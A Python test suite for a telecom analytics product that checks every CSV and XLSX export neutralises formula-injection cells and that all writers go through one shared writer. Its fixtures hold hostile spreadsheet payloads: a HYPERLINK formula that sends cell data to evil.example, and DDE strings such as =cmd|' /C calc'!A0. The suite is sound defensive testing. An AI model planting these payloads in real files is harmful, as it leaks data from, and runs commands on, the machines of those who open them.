"""Formula injection (CSV/XLSX injection): every file the product writes for a spreadsheet
neutralises text cells starting with = + - @ tab or CR (OWASP), through one shared writer."""

from __future__ import annotations

import ast
import csv
import io
import re
import stat
from datetime import date
from pathlib import Path
from typing import Any

import numpy as np
import pyarrow as pa
from django.test import Client
from hypothesis import assume, given
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

from quanwang.campaigns.channels.call_list import CallListAdapter, CallListConfig
from quanwang.campaigns.choices import CampaignType, Channel
from quanwang.campaigns.evaluation import CampaignCosts, evaluate
from quanwang.campaigns.report import CampaignInfo, report_xlsx, write_report
from quanwang.campaigns.responses import import_responses
from quanwang.core.choices import Role
from quanwang.core.tabular import (
    FORMULA_TRIGGERS,
    RowError,
    append_row,
    csv_text,
    neutralise,
    write_errors,
)
from quanwang.data.importer import import_file
from quanwang.insight.pipeline import run_pipeline
from quanwang.insight.tabular import Scores, write_scores
from tests import factories
from tests.campaigns.test_channels import message
from tests.campaigns.test_evaluation import stratified

HOSTILE = '=HYPERLINK("http://evil.example/?d="&A1,"点我")'
NEUTRAL = "'" + HOSTILE
SRC = Path(__file__).resolve().parents[2] / "src" / "quanwang"


def _csv(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.reader(handle))


def _private(path: Path) -> bool:
    return stat.S_IMODE(path.stat().st_mode) == 0o600


# --- The cell rule ------------------------------------------------------------------------


@given(st.one_of(st.text(), st.from_regex(r"\A[-+=@\t\r].*", fullmatch=True)))
def test_a_text_cell_is_quoted_exactly_when_it_starts_like_a_formula(text: str) -> None:
    cell = neutralise(text)

    if text[:1] in FORMULA_TRIGGERS and text and not _is_plain_number(text):
        assert cell == "'" + text
    else:
        assert cell == text


@given(st.one_of(st.integers(), st.floats(allow_nan=False, allow_infinity=False)))
def test_the_text_of_a_plain_number_is_left_as_it_is(number: float) -> None:
    # Given a negative or signed number written as text (an operator's raw value)
    text = f"{number:+}" if isinstance(number, int) else repr(number)

    # Then no quote is added: a spreadsheet reads it as the number, not a formula
    assert neutralise(text) == text


def _is_plain_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return set(text) <= set("0123456789.+-eE")


@given(st.one_of(st.integers(), st.floats(allow_nan=False), st.none(), st.booleans()))
def test_numbers_stay_numbers_negative_ones_too(value: Any) -> None:
    assert neutralise(value) == value
    assert type(neutralise(value)) is type(value)


@given(st.sampled_from(FORMULA_TRIGGERS), st.text())
def test_every_trigger_is_neutralised_in_csv_and_xlsx(trigger: str, rest: str) -> None:
    # Given a text cell starting with a trigger (not a plain number), beside a negative number
    text = trigger + rest
    assume(not _is_plain_number(text))

    # When it is written as CSV and as XLSX
    [row] = list(csv.reader(io.StringIO(csv_text(header=None, rows=[[text, -5]]))))
    book = Workbook()
    append_row(book.active, [text, -5])
    saved = io.BytesIO()
    book.save(saved)
    sheet = load_workbook(saved).active

    # Then the text is quoted (a string cell in XLSX, never a formula), the number a number;
    # XLSX drops control characters XML cannot hold (before the rule), and XML reads CR as LF
    assert row == ["'" + text, "-5"]
    in_xml = re.sub("\r\n?", "\n", neutralise(ILLEGAL_CHARACTERS_RE.sub("", text)))
    assert (sheet["A1"].value, sheet["A1"].data_type) == (in_xml, "s")
    assert (sheet["B1"].value, sheet["B1"].data_type) == (-5, "n")


# --- Each export path ---------------------------------------------------------------------


def test_the_staff_csv_export_neutralises_a_hostile_name(
    tree: factories.Tree, client: Client
) -> None:
    # Given a staff member whose name is a formula
    factories.staff(at=tree.county_a, name=HOSTILE)
    client.force_login(factories.user(role=Role.PROVINCE_ADMIN, at=tree.province))

    # When the staff list is exported
    answer = client.post("/staff/export/", {"reason": "月度核对"})

    # Then the name cell is quoted
    rows = list(csv.reader(io.StringIO(answer.content.decode("utf-8-sig"))))
    assert answer.status_code == 200
    assert rows[1][1] == NEUTRAL


def test_the_rejected_rows_file_of_an_import_neutralises_the_value(
    db: None, tmp_path: Path
) -> None:
    # Given a subscribers file whose join date is a formula
    plans = tmp_path / "plans.csv"
    plans.write_text("plan_id,name,plan_type,monthly_fee,is_5g\nP1,5G畅享,postpaid,129,是\n")
    import_file(table_name="plans", path=plans)
    source = tmp_path / "subscribers.csv"
    source.write_text(
        "subscriber_id,msisdn,segment,payment_type,join_date,status,plan_id\n"
        f'S1,13800000001,个人,postpaid,"{HOSTILE.replace(chr(34), chr(34) * 2)}",active,P1\n',
        encoding="utf-8",
    )

    # When it is imported
    report = import_file(table_name="subscribers", path=source)

    # Then the rejected row's value is quoted, in a file only the service can read
    rejected = Path(report.quarantine_file)
    rows = _csv(rejected)
    assert rows[1][rows[0].index("value")] == NEUTRAL
    assert _private(rejected)


def test_the_org_import_error_file_neutralises_the_value(tmp_path: Path) -> None:
    target = tmp_path / "q" / "org.csv"

    write_errors(target, [RowError("org.csv", 2, "code", HOSTILE, "bad code")])

    assert _csv(target)[1][3] == NEUTRAL
    assert _private(target)


def test_the_responses_quarantine_neutralises_the_value(tmp_path: Path) -> None:
    source = tmp_path / "responses.csv"
    source.write_text("campaign_id,subscriber_id\n@SUM(1+1)*cmd,S1\n", encoding="utf-8")

    report = import_responses(path=source, audiences={}, quarantine_dir=tmp_path / "q")

    rows = _csv(Path(report.quarantine_file))
    assert rows[1][rows[0].index("value")] == "'@SUM(1+1)*cmd"
    assert _private(Path(report.quarantine_file))


def test_the_insight_xlsx_stores_a_hostile_value_as_a_string_cell(
    tree: factories.Tree, client: Client, tmp_path: Path
) -> None:
    # Given SA1 of grid A calling a number whose hash field holds a formula
    factories.warehouse_customers(tree, tmp_path)
    contacts = tmp_path / "hostile-contacts.csv"
    contacts.write_text(
        "subscriber_id,month,peer_hash,peer_operator,calls,minutes,sms\n"
        "SA1,2024-02,=cmd|' /C calc'!A0,移动,12,30,0\n",
        encoding="utf-8",
    )
    import_file(table_name="contacts", path=contacts)
    snapshot = run_pipeline(month="2024-02")
    client.force_login(factories.user(role=Role.GRID_MANAGER, at=tree.grid_a))

    # When the win-over pool is exported
    answer = client.get(f"/insight/offnet.xlsx?snapshot={snapshot.month}/{snapshot.run_id}")

    # Then the cell is quoted text, not a formula, and the counts stay numbers
    sheet = load_workbook(io.BytesIO(answer.content)).active
    targets = [row for row in sheet.iter_rows(min_row=2) if row[0].value.startswith("'=")]
    assert [(c.value, c.data_type) for c in targets[0][:3]] == [
        ("'=cmd|' /C ", "s"), ("移动", "s"), (1, "n"),
    ]  # fmt: skip


def test_the_campaign_report_xlsx_neutralises_text_and_keeps_figures(tmp_path: Path) -> None:
    # Given a campaign whose name and hypothesis look like formulas
    campaign = CampaignInfo(
        name=HOSTILE, campaign_type=CampaignType.RETENTION, hypothesis="-1+cmd",
        objective="+5%", window_start=date(2024, 9, 1), window_end=date(2024, 10, 31),
        segment="@segment", offers=("续约送流量",), channels=(Channel.SMS,), budget=-100.0,
    )  # fmt: skip
    evaluation = evaluate(
        audience=stratified(np.random.default_rng(3), 2_000),
        costs=CampaignCosts(offer_cost_per_taker=1.0, contact_cost_per_contact=0.05),
    )

    # When the report is written
    files = write_report(
        evaluation=evaluation, campaign=campaign, directory=tmp_path / "r", stem="c1"
    )
    sheet = load_workbook(io.BytesIO(report_xlsx(evaluation=evaluation, campaign=campaign))).active

    # Then the texts are quoted string cells, the budget a (negative) number, no formula
    facts = {(c.value, c.data_type) for c in sheet["B"]}
    assert {("'" + HOSTILE, "s"), ("'-1+cmd", "s"), ("'+5%", "s"), ("'@segment", "s")} <= facts
    assert (-100.0, "n") in facts
    assert not [c for row in sheet.iter_rows() for c in row if c.data_type == "f"]
    assert _private(files.xlsx)
    assert _private(files.pdf)


def test_the_call_list_neutralises_a_hostile_script_in_a_private_file(tmp_path: Path) -> None:
    adapter = CallListAdapter(config=CallListConfig(output_dir=str(tmp_path / "calls")))

    adapter.send([message(1, name="+王五", text=HOSTILE)])

    [written] = (tmp_path / "calls").iterdir()
    sheet = load_workbook(written).active
    assert [(c.value, c.data_type) for c in sheet[2]][2:4] == [("'+王五", "s"), (NEUTRAL, "s")]
    assert _private(written)


def test_the_scores_csv_neutralises_hostile_ids_and_keeps_probabilities(tmp_path: Path) -> None:
    scores = Scores(
        id_column="customerID",
        ids=pa.array([HOSTILE, "-1+cmd|' /C calc'!A0", "-7", "S3"]),
        probabilities=pa.array([0.25, 0.5, 0.75, 1.0]),
    )

    write_scores(scores=scores, path=tmp_path / "scores.csv")

    assert _csv(tmp_path / "scores.csv") == [
        ["id", "probability"], [NEUTRAL, "0.25"], ["'-1+cmd|' /C calc'!A0", "0.5"],
        ["-7", "0.75"], ["S3", "1"],
    ]  # fmt: skip
    assert _private(tmp_path / "scores.csv")


# --- One writer ---------------------------------------------------------------------------

#: Writers that are not exports: they convert an operator's upload for the importer to read,
#: where a quote would change the data.
NOT_EXPORTS = {
    ("data/sources.py", "writer"),  # an uploaded XLSX, converted to CSV for DuckDB
    ("data/workbooks.py", "writer"),  # an uploaded workbook, converted to CSV for DuckDB
    ("data/importer.py", "writer"),  # lines the typed read rejected, re-read as text
    ("data/scan.py", "writer"),  # the same, since the importer's scan moved to data/scan.py
    ("data/geometry.py", "writer"),  # an uploaded GeoJSON's features, as CSV for DuckDB
}
#: csv.writer, csv.DictWriter, openpyxl's Workbook, pyarrow.csv.write_csv and CSVWriter,
#: pandas' to_csv and to_excel.
WRITERS = {"writer", "DictWriter", "Workbook", "write_csv", "CSVWriter", "to_csv", "to_excel"}
WRITER_MODULES = {"csv", "openpyxl", "pyarrow.csv", "openpyxl.workbook", "xlsxwriter"}


def _writers(tree: ast.AST) -> set[str]:
    """Writers called as module attributes (csv.writer, pacsv.write_csv, df.to_csv) or
    imported by name from a writing library (from openpyxl import Workbook)."""
    found = set()
    for node in ast.walk(tree):
        if isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute):
            if node.func.attr in WRITERS:
                found.add(node.func.attr)
        elif isinstance(node, ast.ImportFrom) and node.module in WRITER_MODULES:
            found |= {alias.name for alias in node.names if alias.name in WRITERS}
        elif isinstance(node, ast.Import):
            found |= {"xlsxwriter" for alias in node.names if alias.name == "xlsxwriter"}
    return found


def test_every_csv_and_xlsx_writer_is_the_shared_one() -> None:
    # Given every use of csv.writer, Workbook, pyarrow's write_csv and the like under src/
    found = {
        (path.relative_to(SRC).as_posix(), name)
        for path in SRC.rglob("*.py")
        if path.relative_to(SRC).as_posix() != "core/tabular.py"
        for name in _writers(ast.parse(path.read_text(encoding="utf-8")))
    }

    # Then none is left outside the shared writer but the two that feed the importer
    assert found - NOT_EXPORTS == set()


def test_a_control_character_cannot_hide_a_formula_from_the_xlsx_writer() -> None:
    book = Workbook()

    append_row(book.active, ["\x01=cmd|' /C calc'!A0"])

    assert (book.active["A1"].value, book.active["A1"].data_type) == ("'=cmd|' /C calc'!A0", "s")
